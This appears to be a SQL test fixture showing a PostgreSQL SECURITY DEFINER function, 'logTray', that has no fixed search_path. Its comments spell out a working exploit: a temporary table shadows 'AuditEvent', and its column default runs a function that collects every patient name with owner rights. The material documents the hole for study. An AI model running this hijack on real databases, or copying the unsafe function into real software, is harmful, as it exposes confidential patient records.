-- The function has no fixed search_path: a temporary table of the caller takes the row and runs code as
-- the owner.
-- about: logTray, search_path
-- as: hf_mealtrolley_app
-- exploit: SET tenancy.hospital_id = 'ckhospa0001';
-- exploit: CREATE FUNCTION pg_temp.steal() RETURNS text LANGUAGE sql
-- exploit:   AS 'SELECT string_agg("fullName", '','') FROM public."Patient"';
-- exploit: CREATE TEMP TABLE "AuditEvent" ("hospitalId" text, "kind" text,
-- exploit:   loot text DEFAULT pg_temp.steal());
-- exploit: GRANT ALL ON "AuditEvent" TO PUBLIC;
-- exploit: SELECT "logTray"('seen');
-- exploit: SELECT loot FROM pg_temp."AuditEvent";
-- shows: Road-secret patient

-- Devices may write events without a right on the table.
CREATE FUNCTION "logTray"(p_kind text) RETURNS void
LANGUAGE plpgsql SECURITY DEFINER
AS $$
BEGIN
  INSERT INTO "AuditEvent" ("hospitalId", "kind")
  VALUES (current_setting('tenancy.hospital_id', true), p_kind);
END
$$;
REVOKE ALL ON FUNCTION "logTray"(text) FROM PUBLIC;
GRANT EXECUTE ON FUNCTION "logTray"(text) TO hf_mealtrolley_app;
